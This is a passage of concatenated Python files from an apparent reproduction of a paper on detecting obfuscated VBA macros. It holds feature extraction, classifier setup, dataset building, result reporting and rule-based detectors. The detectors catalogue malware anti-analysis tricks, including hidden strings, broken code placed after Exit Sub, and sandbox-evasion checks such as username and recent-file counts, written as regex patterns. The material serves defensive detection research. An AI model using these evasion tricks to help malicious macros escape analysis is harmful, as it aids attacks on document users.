    member_calls = sum(1 for call in analysis.call_sites if call.is_member)
    j7 = member_calls / len(analysis.call_sites) if analysis.call_sites else 0.0

    string_lengths = [len(s) for s in analysis.string_literals]
    j8 = float(np.mean(string_lengths)) if string_lengths else 0.0

    argument_lengths = _argument_lengths(analysis)
    j9 = float(np.mean(argument_lengths)) if argument_lengths else 0.0

    j10 = float(len(analysis.comments))
    j11 = j10 / n_lines
    j12 = float(len(words))

    comment_text = analysis.comment_text
    words_in_comments = sum(1 for word in words if word in comment_text)
    j13 = (len(words) - words_in_comments) / len(words) if words else 0.0

    long_lines = sum(1 for line in lines if len(line) > _LONG_LINE_THRESHOLD)
    j14 = long_lines / n_lines

    j15 = shannon_entropy(source)

    string_chars = sum(
        len(token.text)
        for token in analysis.tokens
        if token.kind is TokenKind.STRING
    )
    j16 = string_chars / j1 if j1 else 0.0

    backslashes = source.count("\\")
    j17 = backslashes / j1 if j1 else 0.0

    bodies = _function_bodies(analysis)
    body_chars = sum(len(body) for body in bodies)
    j18 = body_chars / len(bodies) if bodies else 0.0
    j19 = body_chars / j1 if j1 else 0.0
    j20 = len(bodies) / j1 if j1 else 0.0

    return np.array(
        [
            j1, j2, j3, j4, j5, j6, j7, j8, j9, j10,
            j11, j12, j13, j14, j15, j16, j17, j18, j19, j20,
        ],
        dtype=np.float64,
    )


def _argument_lengths(analysis: MacroAnalysis) -> list[int]:
    """Character lengths of parenthesized call arguments."""
    lengths: list[int] = []
    tokens = [
        t
        for t in analysis.tokens
        if t.kind
        not in (TokenKind.WHITESPACE, TokenKind.NEWLINE, TokenKind.EOF)
    ]
    for index, token in enumerate(tokens[:-1]):
        if token.kind is not TokenKind.IDENTIFIER:
            continue
        nxt = tokens[index + 1]
        if nxt.kind is not TokenKind.PUNCT or nxt.text != "(":
            continue
        depth = 0
        size = 0
        for inner in tokens[index + 1 :]:
            if inner.kind is TokenKind.PUNCT and inner.text == "(":
                depth += 1
                if depth == 1:
                    continue
            if inner.kind is TokenKind.PUNCT and inner.text == ")":
                depth -= 1
                if depth == 0:
                    break
            size += len(inner.text)
        lengths.append(size)
    return lengths
