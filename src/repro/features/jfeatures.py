"""The comparison feature set J1–J20 (Table VI).

These are the features of the obfuscated-JavaScript studies (Likarish et al.
2009 [24]; Aebersold et al. 2016 [26]) adapted to VBA, exactly as the paper's
comparative experiment does.  Two paper-noted adaptations:

* J14 — originally "% of lines > 1000 chars" — uses a 150-character
  threshold "to reflect the characteristics of VBA macros that can not be
  applied the minification technique of removing linefeed";
* the ``eval()``-based feature of [26] is dropped because VBA has no
  corresponding function.

Like the V set, extraction is a **column-batch kernel**:
:func:`j_features_batch` maps :class:`~repro.vba.analyzer.AnalysisSummary`
digests to the ``(n, 20)`` matrix in single numpy passes; the per-row API
is the same kernel applied to a batch of one.  J15 reads the entropy
value the analyzer computed once — V13 and J15 are the same number from
the same pass, not two recomputations.
"""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np

from repro.features.batch import gather, mean_from_sums, safe_divide
from repro.vba.analyzer import AnalysisSummary, MacroAnalysis, analyze

J_FEATURE_NAMES: tuple[str, ...] = (
    "J1_length_chars",
    "J2_chars_per_line",
    "J3_line_count",
    "J4_string_count",
    "J5_human_readable_pct",
    "J6_whitespace_pct",
    "J7_methods_called_pct",
    "J8_string_len_mean",
    "J9_argument_len_mean",
    "J10_comment_count",
    "J11_comments_per_line",
    "J12_word_count",
    "J13_words_not_in_comments_pct",
    "J14_long_line_pct",
    "J15_entropy",
    "J16_string_char_share",
    "J17_backslash_pct",
    "J18_chars_per_function_body",
    "J19_function_body_char_pct",
    "J20_function_defs_per_char",
)

def extract_j_features(source: str) -> np.ndarray:
    """Extract the 20-dimensional J vector from one macro's source text."""
    return j_features_from_analysis(analyze(source))


def j_features_from_analysis(analysis: MacroAnalysis) -> np.ndarray:
    """Extract J1–J20 from a pre-computed structural analysis.

    A batch-of-one through :func:`j_features_batch` — bit-identical to the
    row this macro would get inside any larger batch.
    """
    return j_features_batch([analysis.ensure_summary()])[0]


def j_features_batch(summaries: Sequence[AnalysisSummary]) -> np.ndarray:
    """The column-batch kernel: summaries → ``(n, 20)`` float64 matrix."""
    n = len(summaries)
    out = np.zeros((n, len(J_FEATURE_NAMES)), dtype=np.float64)
    if n == 0:
        return out

    j1 = gather(summaries, "source_chars")
    line_count = gather(summaries, "line_count")
    n_lines = np.maximum(line_count, 1.0)
    word_count = gather(summaries, "word_count")
    calls = gather(summaries, "call_count")
    body_count = gather(summaries, "body_count")
    body_chars = gather(summaries, "body_total_chars")

    out[:, 0] = j1
    out[:, 1] = j1 / n_lines
    out[:, 2] = line_count
    out[:, 3] = gather(summaries, "string_count")
    out[:, 4] = safe_divide(gather(summaries, "readable_word_count"), word_count)
    out[:, 5] = safe_divide(gather(summaries, "whitespace_chars"), j1)
    out[:, 6] = safe_divide(gather(summaries, "member_call_count"), calls)
    out[:, 7] = mean_from_sums(
        gather(summaries, "string_count"), gather(summaries, "string_len_sum")
    )
    out[:, 8] = mean_from_sums(
        gather(summaries, "argument_count"), gather(summaries, "argument_len_sum")
    )
    comment_count = gather(summaries, "comment_count")
    out[:, 9] = comment_count
    out[:, 10] = comment_count / n_lines
    out[:, 11] = word_count
    out[:, 12] = safe_divide(
        word_count - gather(summaries, "words_in_comment_count"), word_count
    )
    out[:, 13] = gather(summaries, "long_line_count") / n_lines
    out[:, 14] = gather(summaries, "entropy")
    out[:, 15] = safe_divide(gather(summaries, "string_token_chars"), j1)
    out[:, 16] = safe_divide(gather(summaries, "backslash_chars"), j1)
    out[:, 17] = mean_from_sums(body_count, body_chars)
    out[:, 18] = safe_divide(body_chars, j1)
    out[:, 19] = safe_divide(body_count, j1)
    return out
