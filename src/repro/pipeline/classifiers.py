"""The paper's five configured classifiers (Section IV.D).

Factories return *unfitted* estimators so cross-validation refits per fold;
``preprocessor_for`` supplies the matching feature scaling.
"""

from __future__ import annotations

from repro.ml.forest import RandomForestClassifier
from repro.ml.lda import LinearDiscriminantAnalysis
from repro.ml.mlp import MLPClassifier
from repro.ml.naive_bayes import BernoulliNB
from repro.ml.preprocessing import MedianBinarizer, StandardScaler
from repro.ml.svm import SVC

#: Display order used throughout the paper's tables and figures.
CLASSIFIER_ORDER = ("SVM", "RF", "MLP", "LDA", "BNB")


def make_classifier(name: str, random_state: int = 0):
    """Build one of the paper's classifiers with its published parameters."""
    if name == "SVM":
        # The paper's parameters: C = 150, γ = 0.03.
        return SVC(C=150.0, gamma=0.03, max_iter=60, random_state=random_state)
    if name == "RF":
        return RandomForestClassifier(
            n_estimators=60, max_features="sqrt", random_state=random_state
        )
    if name == "MLP":
        return MLPClassifier(
            hidden_layer_sizes=(100,),
            max_epochs=150,
            random_state=random_state,
        )
    if name == "LDA":
        return LinearDiscriminantAnalysis()
    if name == "BNB":
        return BernoulliNB(alpha=1.0, binarize=None)
    raise ValueError(f"unknown classifier {name!r}")


def proba_from_matrix(detector, X) -> "object":
    """Score a feature matrix through any detector: ``(n, d) -> (n, 2)``.

    The batched classification kernel's single entry point.  Dispatches to
    the richest API the detector offers — a ``proba_from_matrix`` method
    (e.g. :class:`repro.ObfuscationDetector`, which applies its fitted
    preprocessor), then ``proba_from_features`` (the legacy name for the
    same contract), then a bare sklearn-style ``predict_proba`` over raw
    rows.  Every path is row-stable: row ``i`` of the result is
    bit-identical whether ``X`` holds one row or a fleet's worth, which is
    the contract :class:`~repro.engine.stages.ClassifyStage` relies on to
    keep per-macro and micro-batched scoring exactly equal.
    """
    method = getattr(detector, "proba_from_matrix", None)
    if method is not None:
        return method(X)
    method = getattr(detector, "proba_from_features", None)
    if method is not None:
        return method(X)
    return detector.predict_proba(X)


def preprocessor_for(name: str):
    """The preprocessing factory paired with each classifier.

    SVM / MLP / LDA expect standardized inputs; BNB needs binary features
    (per-feature median threshold suits the heterogeneous V/J scales);
    trees are scale-invariant.
    """
    if name in ("SVM", "MLP", "LDA"):
        return StandardScaler
    if name == "BNB":
        return MedianBinarizer
    if name == "RF":
        return None
    raise ValueError(f"unknown classifier {name!r}")
