"""Dataset construction: documents → labeled macro samples (Section IV.B).

Reproduces the paper's preprocessing on a corpus of document files:

1. extract every VBA macro with the olevba-equivalent extractor;
2. drop *insignificant* macros (< 150 bytes: "only made up of comments or
   practice code");
3. deduplicate identical macros across files;
4. label each macro obfuscated / normal (ground truth stands in for the
   paper's manual labeling).

The result carries the Table III summary and feeds the classification
experiments.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.corpus.documents import SyntheticDocument
from repro.engine import AnalysisEngine, DocumentRecord

MIN_MACRO_BYTES = 150  # the paper's insignificance cutoff


@dataclass(slots=True)
class MacroSample:
    """One deduplicated macro with its labels."""

    source: str
    obfuscated: bool
    from_malicious: bool
    occurrences: int = 1  # how many documents carried this macro


@dataclass(slots=True)
class MacroDataset:
    """The paper's working dataset: 4,212 labeled macros at full scale."""

    samples: list[MacroSample] = field(default_factory=list)
    files_benign: int = 0
    files_malicious: int = 0
    dropped_short: int = 0
    dropped_duplicates: int = 0

    @property
    def sources(self) -> list[str]:
        return [sample.source for sample in self.samples]

    @property
    def labels(self) -> np.ndarray:
        """1 = obfuscated, 0 = normal — the classification target."""
        return np.array(
            [1 if sample.obfuscated else 0 for sample in self.samples],
            dtype=np.int64,
        )

    def subset(self, from_malicious: bool) -> list[MacroSample]:
        return [s for s in self.samples if s.from_malicious is from_malicious]

    def table3_summary(self) -> dict[str, dict[str, float]]:
        """Rows of Table III: per-group macro counts and obfuscation rates."""
        rows: dict[str, dict[str, float]] = {}
        for label, from_malicious, files in (
            ("benign", False, self.files_benign),
            ("malicious", True, self.files_malicious),
        ):
            group = self.subset(from_malicious)
            obfuscated = sum(1 for s in group if s.obfuscated)
            rows[label] = {
                "files": files,
                "macros": len(group),
                "obfuscated": obfuscated,
                "obfuscated_pct": 100.0 * obfuscated / len(group) if group else 0.0,
            }
        rows["total"] = {
            "files": self.files_benign + self.files_malicious,
            "macros": len(self.samples),
            "obfuscated": sum(1 for s in self.samples if s.obfuscated),
            "obfuscated_pct": (
                100.0
                * sum(1 for s in self.samples if s.obfuscated)
                / len(self.samples)
                if self.samples
                else 0.0
            ),
        }
        return rows


class DatasetBuilder:
    """Run the preprocessing pipeline over synthetic documents.

    Extraction and the insignificance filter run through the shared
    :class:`~repro.engine.AnalysisEngine` (parallelizable with ``jobs``);
    the cross-document dedup/label merge is sequential by construction,
    so sample order is independent of ``jobs``.
    """

    def __init__(self, min_macro_bytes: int = MIN_MACRO_BYTES) -> None:
        if min_macro_bytes < 0:
            raise ValueError("min_macro_bytes must be non-negative")
        self.min_macro_bytes = min_macro_bytes

    def build(
        self,
        documents: list[SyntheticDocument],
        truth: dict[str, bool],
        jobs: int = 1,
    ) -> MacroDataset:
        """Extract, filter, deduplicate and label (via ``truth``) macros."""
        engine = AnalysisEngine.for_extraction(
            min_macro_bytes=self.min_macro_bytes
        )
        records = engine.run_batch(documents, jobs=jobs)
        return self.build_from_records(records, documents, truth)

    @staticmethod
    def build_from_records(
        records: list[DocumentRecord],
        documents: list[SyntheticDocument],
        truth: dict[str, bool],
    ) -> MacroDataset:
        """Merge per-document engine records into the deduplicated dataset."""
        dataset = MacroDataset()
        seen: dict[str, MacroSample] = {}
        for document, record in zip(documents, records):
            if document.is_malicious:
                dataset.files_malicious += 1
            else:
                dataset.files_benign += 1
            if not record.ok:
                continue
            for macro in record.macros:
                source = macro.source
                if macro.filtered == "short":
                    dataset.dropped_short += 1
                    continue
                existing = seen.get(source)
                if existing is not None:
                    existing.occurrences += 1
                    dataset.dropped_duplicates += 1
                    continue
                if source not in truth:
                    raise KeyError(
                        "extracted macro missing from ground truth (extraction "
                        "is expected to round-trip sources exactly)"
                    )
                sample = MacroSample(
                    source=source,
                    obfuscated=truth[source],
                    from_malicious=document.is_malicious,
                )
                seen[source] = sample
                dataset.samples.append(sample)
        return dataset
