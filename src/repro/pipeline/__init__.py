"""End-to-end experiment layer: dataset building, classifiers, evaluation."""

from repro.pipeline.classifiers import (
    CLASSIFIER_ORDER,
    make_classifier,
    preprocessor_for,
)
from repro.pipeline.dataset import (
    MIN_MACRO_BYTES,
    DatasetBuilder,
    MacroDataset,
    MacroSample,
)
from repro.pipeline.experiment import (
    CellResult,
    ExperimentResult,
    ExperimentRunner,
)
from repro.pipeline.reporting import (
    PAPER_FIG6_MAX,
    PAPER_FIG7_AUC,
    PAPER_TABLE5,
    render_fig5,
    render_fig6,
    render_fig7,
    render_table2,
    render_table3,
    render_table5,
)

__all__ = [
    "CLASSIFIER_ORDER",
    "CellResult",
    "DatasetBuilder",
    "ExperimentResult",
    "ExperimentRunner",
    "MIN_MACRO_BYTES",
    "MacroDataset",
    "MacroSample",
    "PAPER_FIG6_MAX",
    "PAPER_FIG7_AUC",
    "PAPER_TABLE5",
    "make_classifier",
    "preprocessor_for",
    "render_fig5",
    "render_fig6",
    "render_fig7",
    "render_table2",
    "render_table3",
    "render_table5",
]
