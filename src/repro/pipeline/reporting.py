"""Text renderers that print the paper's tables and figures.

Each function takes the corresponding result object and returns the table /
figure as a string matching the paper's rows and series, so the benchmark
harness can show paper-vs-measured side by side.
"""

from __future__ import annotations

import numpy as np

from repro.pipeline.dataset import MacroDataset
from repro.pipeline.experiment import ExperimentResult

#: Table V as published (for side-by-side comparison).
PAPER_TABLE5 = {
    ("V", "SVM"): (0.955, 0.881, 0.906),
    ("V", "RF"): (0.965, 0.982, 0.848),
    ("V", "MLP"): (0.970, 0.938, 0.915),
    ("V", "LDA"): (0.901, 0.842, 0.640),
    ("V", "BNB"): (0.891, 0.750, 0.713),
    ("J", "SVM"): (0.753, 0.445, 0.751),
    ("J", "RF"): (0.903, 0.841, 0.657),
    ("J", "MLP"): (0.834, 0.760, 0.316),
    ("J", "LDA"): (0.826, 0.677, 0.318),
    ("J", "BNB"): (0.701, 0.391, 0.775),
}

#: Fig. 6 as published: F₂ per classifier per feature set (approximate bar
#: values; the paper states the maxima exactly: 0.92 for MLP-V, 0.69 RF-J).
PAPER_FIG6_MAX = {"V": ("MLP", 0.92), "J": ("RF", 0.69)}

#: Fig. 7 as published.
PAPER_FIG7_AUC = {"V": 0.950, "J": 0.812}


def render_table2(summary: dict[str, dict[str, float]]) -> str:
    lines = [
        "TABLE II: Summary of collected MS Office document files",
        f"{'Group':<12} {'# Word':>8} {'# Excel':>8} {'Total':>8} {'Avg size':>12}",
    ]
    for group in ("benign", "malicious"):
        row = summary[group]
        lines.append(
            f"{group:<12} {row['word']:>8.0f} {row['excel']:>8.0f} "
            f"{row['files']:>8.0f} {row['avg_size'] / 1024:>10.1f}KB"
        )
    return "\n".join(lines)


def render_table3(dataset: MacroDataset) -> str:
    summary = dataset.table3_summary()
    lines = [
        "TABLE III: Summary of VBA macros extracted from MS Office files",
        f"{'Group':<12} {'# files':>8} {'# macros':>9} {'# obfuscated':>14}",
    ]
    for group in ("benign", "malicious", "total"):
        row = summary[group]
        lines.append(
            f"{group:<12} {row['files']:>8.0f} {row['macros']:>9.0f} "
            f"{row['obfuscated']:>8.0f} ({row['obfuscated_pct']:.1f}%)"
        )
    return "\n".join(lines)


def render_table5(result: ExperimentResult) -> str:
    lines = [
        "TABLE V: Evaluation results (measured vs paper)",
        f"{'Set':<4} {'Clf':<4} "
        f"{'Acc':>7} {'Prec':>7} {'Rec':>7}   "
        f"{'Acc(p)':>7} {'Prec(p)':>8} {'Rec(p)':>7}",
    ]
    for feature_set in ("V", "J"):
        for name in ("SVM", "RF", "MLP", "LDA", "BNB"):
            if (feature_set, name) not in result.cells:
                continue
            cell = result.cell(feature_set, name)
            paper = PAPER_TABLE5[(feature_set, name)]
            lines.append(
                f"{feature_set:<4} {name:<4} "
                f"{cell.accuracy:>7.3f} {cell.precision:>7.3f} {cell.recall:>7.3f}   "
                f"{paper[0]:>7.3f} {paper[1]:>8.3f} {paper[2]:>7.3f}"
            )
    return "\n".join(lines)


def render_fig6(result: ExperimentResult) -> str:
    lines = [
        "FIGURE 6: F2 score per classifier per feature set",
        f"{'Clf':<5} {'F2 (V)':>8} {'F2 (J)':>8}",
    ]
    for name in ("SVM", "RF", "MLP", "LDA", "BNB"):
        if ("V", name) not in result.cells:
            continue
        v_cell = result.cell("V", name)
        j_cell = result.cell("J", name)
        bar_v = "#" * int(round(v_cell.f2 * 40))
        lines.append(
            f"{name:<5} {v_cell.f2:>8.3f} {j_cell.f2:>8.3f}   |{bar_v}"
        )
    best_v = result.best_by_f2("V")
    best_j = result.best_by_f2("J")
    lines.append(
        f"max: V={best_v.classifier} {best_v.f2:.3f} (paper "
        f"{PAPER_FIG6_MAX['V'][0]} {PAPER_FIG6_MAX['V'][1]:.2f}), "
        f"J={best_j.classifier} {best_j.f2:.3f} (paper "
        f"{PAPER_FIG6_MAX['J'][0]} {PAPER_FIG6_MAX['J'][1]:.2f})"
    )
    lines.append(f"F2 improvement (V over J): {result.f2_improvement:+.3f}")
    return "\n".join(lines)


def render_fig7(result: ExperimentResult) -> str:
    """ASCII ROC curves of the best-V and best-J classifiers."""
    best_v = result.best_by_f2("V")
    best_j = result.best_by_f2("J")
    lines = [
        "FIGURE 7: ROC curves (pooled over CV folds)",
        f"solid  = {best_v.classifier} on V features, AUC={best_v.auc:.3f} "
        f"(paper {PAPER_FIG7_AUC['V']:.3f})",
        f"dashed = {best_j.classifier} on J features, AUC={best_j.auc:.3f} "
        f"(paper {PAPER_FIG7_AUC['J']:.3f})",
    ]
    lines.extend(_ascii_roc(best_v.roc_points(), best_j.roc_points()))
    return "\n".join(lines)


def _ascii_roc(
    solid: tuple[np.ndarray, np.ndarray],
    dashed: tuple[np.ndarray, np.ndarray],
    width: int = 50,
    height: int = 16,
) -> list[str]:
    grid = [[" "] * (width + 1) for _ in range(height + 1)]

    def plot(points: tuple[np.ndarray, np.ndarray], symbol: str) -> None:
        fpr, tpr = points
        dense_fpr = np.linspace(0.0, 1.0, 200)
        dense_tpr = np.interp(dense_fpr, fpr, tpr)
        for x_value, y_value in zip(dense_fpr, dense_tpr):
            col = int(round(x_value * width))
            row = height - int(round(y_value * height))
            if grid[row][col] == " ":
                grid[row][col] = symbol

    plot(dashed, ".")
    plot(solid, "#")
    lines = ["TPR"]
    for row in grid:
        lines.append("|" + "".join(row))
    lines.append("+" + "-" * (width + 1) + "-> FPR")
    return lines


def render_roc_csv(result: ExperimentResult, feature_set: str, classifier: str) -> str:
    """Machine-readable ROC points for external plotting."""
    cell = result.cell(feature_set, classifier)
    fpr, tpr = cell.roc_points()
    lines = ["fpr,tpr"]
    lines.extend(f"{x:.6f},{y:.6f}" for x, y in zip(fpr, tpr))
    return "\n".join(lines)


def render_fig5(lengths_normal: list[int], lengths_obfuscated: list[int]) -> str:
    """Fig. 5: code-length distributions; clusters appear as spikes."""
    lines = ["FIGURE 5: code length distribution"]
    for label, lengths in (
        ("(a) non-obfuscated", lengths_normal),
        ("(b) obfuscated", lengths_obfuscated),
    ):
        lines.append(f"{label}: n={len(lengths)}")
        if not lengths:
            continue
        array = np.asarray(lengths)
        lines.append(
            f"  min={array.min()}  median={int(np.median(array))}  "
            f"max={array.max()}"
        )
        # Log-spaced histogram; cluster bins stand out for (b).
        edges = np.unique(
            np.logspace(
                np.log10(max(1, array.min())),
                np.log10(array.max() + 1),
                18,
            ).astype(int)
        )
        counts, _ = np.histogram(array, bins=edges)
        peak = max(1, counts.max())
        for low, high, count in zip(edges[:-1], edges[1:], counts):
            bar = "#" * int(round(40 * count / peak))
            lines.append(f"  [{low:>7}, {high:>7}) {count:>5} {bar}")
    return "\n".join(lines)
