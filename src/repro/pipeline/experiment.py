"""ExperimentRunner: the Section V evaluation.

Runs 10-fold stratified cross-validation for every (feature set, classifier)
pair and aggregates the metrics behind Table V (accuracy / precision /
recall), Fig. 6 (F₂ per classifier), and Fig. 7 (pooled ROC / AUC).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.corpus.builder import Corpus, CorpusBuilder, CorpusProfile
from repro.engine import AnalysisEngine
from repro.ml.metrics import roc_curve
from repro.ml.model_selection import CrossValidationResult, cross_validate
from repro.pipeline.classifiers import (
    CLASSIFIER_ORDER,
    make_classifier,
    preprocessor_for,
)
from repro.pipeline.dataset import DatasetBuilder, MacroDataset


@dataclass(slots=True)
class CellResult:
    """One (feature set, classifier) cell of Table V."""

    feature_set: str
    classifier: str
    accuracy: float
    precision: float
    recall: float
    f2: float
    auc: float
    cv: CrossValidationResult

    def roc_points(self) -> tuple[np.ndarray, np.ndarray]:
        fpr, tpr, _ = roc_curve(self.cv.pooled_true, self.cv.pooled_scores)
        return fpr, tpr

    @classmethod
    def from_cv(
        cls, feature_set: str, classifier: str, cv: CrossValidationResult
    ) -> "CellResult":
        """Fold one cross-validation run into a Table V cell."""
        pooled = cv.pooled_report
        return cls(
            feature_set=feature_set,
            classifier=classifier,
            accuracy=pooled["accuracy"],
            precision=pooled["precision"],
            recall=pooled["recall"],
            f2=pooled["f2"],
            auc=cv.pooled_auc,
            cv=cv,
        )


@dataclass
class ExperimentResult:
    """All Table V cells plus the dataset they were computed on."""

    cells: dict[tuple[str, str], CellResult] = field(default_factory=dict)
    dataset: MacroDataset | None = None

    def cell(self, feature_set: str, classifier: str) -> CellResult:
        return self.cells[(feature_set, classifier)]

    def best_by_f2(self, feature_set: str) -> CellResult:
        candidates = [
            cell for (fs, _), cell in self.cells.items() if fs == feature_set
        ]
        return max(candidates, key=lambda cell: cell.f2)

    @property
    def f2_improvement(self) -> float:
        """The paper's headline: best-V F₂ minus best-J F₂ (≈ +0.23)."""
        return self.best_by_f2("V").f2 - self.best_by_f2("J").f2


class ExperimentRunner:
    """Build (or accept) a dataset, then evaluate every classifier."""

    def __init__(
        self,
        n_splits: int = 10,
        random_state: int = 0,
        classifiers: tuple[str, ...] = CLASSIFIER_ORDER,
        feature_sets: tuple[str, ...] = ("V", "J"),
    ) -> None:
        self.n_splits = n_splits
        self.random_state = random_state
        self.classifiers = classifiers
        self.feature_sets = feature_sets

    # ------------------------------------------------------------------

    def dataset_from_profile(
        self, profile: CorpusProfile, seed: int = 2016
    ) -> MacroDataset:
        corpus = CorpusBuilder(profile, seed=seed).build()
        return self.dataset_from_corpus(corpus)

    @staticmethod
    def dataset_from_corpus(corpus: Corpus) -> MacroDataset:
        return DatasetBuilder().build(corpus.documents, corpus.truth)

    # ------------------------------------------------------------------

    def evaluate_cell(
        self, X: np.ndarray, labels: np.ndarray, feature_set: str, name: str
    ) -> CellResult:
        """Cross-validate one classifier on one matrix → one Table V cell.

        The single evaluation path shared by :meth:`run`,
        :meth:`run_feature_matrix`, and the engine's ablation helpers.
        """
        cv = cross_validate(
            lambda: make_classifier(name, self.random_state),
            X,
            labels,
            n_splits=self.n_splits,
            random_state=self.random_state,
            preprocessor_factory=preprocessor_for(name),
        )
        return CellResult.from_cv(feature_set, name, cv)

    def run(self, dataset: MacroDataset, jobs: int = 1) -> ExperimentResult:
        """Evaluate all (feature set × classifier) cells on one dataset."""
        labels = dataset.labels
        if len(np.unique(labels)) < 2:
            raise ValueError("dataset needs both obfuscated and normal macros")
        engine = AnalysisEngine.for_features(self.feature_sets)
        matrices = engine.feature_matrices(dataset.sources, jobs=jobs)

        result = ExperimentResult(dataset=dataset)
        for feature_set in self.feature_sets:
            X = matrices[feature_set]
            for name in self.classifiers:
                result.cells[(feature_set, name)] = self.evaluate_cell(
                    X, labels, feature_set, name
                )
        return result

    def run_feature_matrix(
        self, X: np.ndarray, labels: np.ndarray, feature_set: str = "V"
    ) -> dict[str, CellResult]:
        """Evaluate all classifiers on a pre-built matrix (ablation entry)."""
        return {
            name: self.evaluate_cell(X, labels, feature_set, name)
            for name in self.classifiers
        }
