"""Rule-based detectors complementing the ML classifier (§VI.B techniques)."""

from repro.detect.antianalysis import (
    AntiAnalysisFinding,
    AntiAnalysisReport,
    scan_macro,
)

__all__ = ["AntiAnalysisFinding", "AntiAnalysisReport", "scan_macro"]
