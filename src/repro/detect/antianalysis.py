"""Detection of the §VI.B anti-analysis techniques.

The paper separates *obfuscation* (O1–O4, handled by the classifier) from
*anti-analysis* tricks and catalogs three of the latter "for further malware
detection research":

1. **hiding string data** — payload strings read from document storage
   (document variables, control captions, cell values) instead of literals;
2. **inserting broken code** — unreachable, syntactically broken statements
   after an early ``Exit Sub`` that crash naive parsers;
3. **changing the flow** — sandbox-evasion guards (recent-file counts,
   user-name checks) wrapping the payload.

The detectors themselves live in :mod:`repro.lint.rules.antianalysis` as
registered lint rules (o_class ``AA``), so anti-analysis findings flow
through the same engine stage, cache, and CLI surfaces as the O1–O4
rules.  This module keeps the original standalone API as a thin shim over
that registry: :func:`scan_macro` runs the AA rules and repackages their
findings under the historical technique names.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.lint.registry import lint_source, rules_for_class

#: Lint rule id → historical technique name.
_TECHNIQUES = {
    "aa-hidden-strings": "hidden_strings",
    "aa-broken-code": "broken_code",
    "aa-flow-evasion": "flow_evasion",
}


@dataclass(slots=True)
class AntiAnalysisFinding:
    """One detected technique instance."""

    technique: str  # "hidden_strings" | "broken_code" | "flow_evasion"
    detail: str
    line: int


@dataclass(slots=True)
class AntiAnalysisReport:
    findings: list[AntiAnalysisFinding] = field(default_factory=list)

    @property
    def techniques(self) -> set[str]:
        return {finding.technique for finding in self.findings}

    @property
    def suspicious(self) -> bool:
        return bool(self.findings)


def scan_macro(source: str) -> AntiAnalysisReport:
    """Scan one macro's source for all three anti-analysis techniques."""
    report = AntiAnalysisReport()
    for finding in lint_source(source, rules_for_class("AA")):
        report.findings.append(
            AntiAnalysisFinding(
                technique=_TECHNIQUES[finding.rule_id],
                detail=finding.message,
                line=finding.line,
            )
        )
    return report
