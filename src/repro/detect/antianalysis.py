"""Detection of the §VI.B anti-analysis techniques.

The paper separates *obfuscation* (O1–O4, handled by the classifier) from
*anti-analysis* tricks and catalogs three of the latter "for further malware
detection research":

1. **hiding string data** — payload strings read from document storage
   (document variables, control captions, cell values) instead of literals;
2. **inserting broken code** — unreachable, syntactically broken statements
   after an early ``Exit Sub`` that crash naive parsers;
3. **changing the flow** — sandbox-evasion guards (recent-file counts,
   user-name checks) wrapping the payload.

This module implements rule-based detectors for all three, operating on the
lexer/analyzer substrate so they work even on macros the strict parser
rejects (which is the very point of trick 2).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from repro.vba.lexer import significant_tokens
from repro.vba.parser import VBAParseError, parse_module
from repro.vba.tokens import TokenKind

#: Host storage reads used to hide strings (Fig. 8(a) and [MS-OFORMS]).
_STORAGE_READ_PATTERNS = (
    re.compile(r"\.Variables\s*\(", re.IGNORECASE),
    re.compile(r"\.CustomDocumentProperties\s*\(", re.IGNORECASE),
    re.compile(r"\.(Caption|ControlTipText|Tag)\b", re.IGNORECASE),
    re.compile(r"UserForm\d*\.\w+", re.IGNORECASE),
)

#: Sandbox-evasion conditions (§VI.B.3 and [45]).
_EVASION_PATTERNS = (
    re.compile(r"RecentFiles\s*\.\s*Count", re.IGNORECASE),
    re.compile(r'Environ\s*\(\s*"(USERNAME|COMPUTERNAME)"\s*\)', re.IGNORECASE),
    re.compile(r"Application\s*\.\s*Windows\s*\.\s*Count", re.IGNORECASE),
    re.compile(r"\.MousePointer|GetTickCount|Timer\b", re.IGNORECASE),
)


@dataclass(slots=True)
class AntiAnalysisFinding:
    """One detected technique instance."""

    technique: str  # "hidden_strings" | "broken_code" | "flow_evasion"
    detail: str
    line: int


@dataclass(slots=True)
class AntiAnalysisReport:
    findings: list[AntiAnalysisFinding] = field(default_factory=list)

    @property
    def techniques(self) -> set[str]:
        return {finding.technique for finding in self.findings}

    @property
    def suspicious(self) -> bool:
        return bool(self.findings)


def scan_macro(source: str) -> AntiAnalysisReport:
    """Scan one macro's source for all three anti-analysis techniques."""
    report = AntiAnalysisReport()
    _find_hidden_strings(source, report)
    _find_broken_code(source, report)
    _find_flow_evasion(source, report)
    return report


# ----------------------------------------------------------------------


def _line_of(source: str, offset: int) -> int:
    return source.count("\n", 0, offset) + 1


def _find_hidden_strings(source: str, report: AntiAnalysisReport) -> None:
    for pattern in _STORAGE_READ_PATTERNS:
        for match in pattern.finditer(source):
            report.findings.append(
                AntiAnalysisFinding(
                    technique="hidden_strings",
                    detail=f"document-storage read: {match.group(0)!r}",
                    line=_line_of(source, match.start()),
                )
            )


def _find_broken_code(source: str, report: AntiAnalysisReport) -> None:
    """Fig. 8(b): code after ``Exit Sub`` that fails to parse.

    The signature is an ``Exit Sub``/``Exit Function`` followed by
    statements (before ``End Sub``) that the strict parser rejects while the
    prefix up to the exit parses fine.
    """
    tokens = significant_tokens(source)
    exit_lines: list[int] = []
    for index, token in enumerate(tokens[:-1]):
        if (
            token.kind is TokenKind.KEYWORD
            and token.text.lower() == "exit"
            and tokens[index + 1].text.lower() in ("sub", "function")
        ):
            exit_lines.append(token.line)
    if not exit_lines:
        return
    try:
        parse_module(source)
        return  # everything parses: nothing broken after the exit
    except VBAParseError as error:
        for exit_line in exit_lines:
            if error.line > exit_line:
                report.findings.append(
                    AntiAnalysisFinding(
                        technique="broken_code",
                        detail=(
                            f"unparseable statement at line {error.line} is "
                            f"shadowed by Exit at line {exit_line}: {error}"
                        ),
                        line=error.line,
                    )
                )
                return


def _find_flow_evasion(source: str, report: AntiAnalysisReport) -> None:
    for pattern in _EVASION_PATTERNS:
        for match in pattern.finditer(source):
            # Only meaningful as a *condition*: require an If/Do/While on
            # the same line.
            line_start = source.rfind("\n", 0, match.start()) + 1
            line_end = source.find("\n", match.start())
            line_text = source[line_start : line_end if line_end != -1 else None]
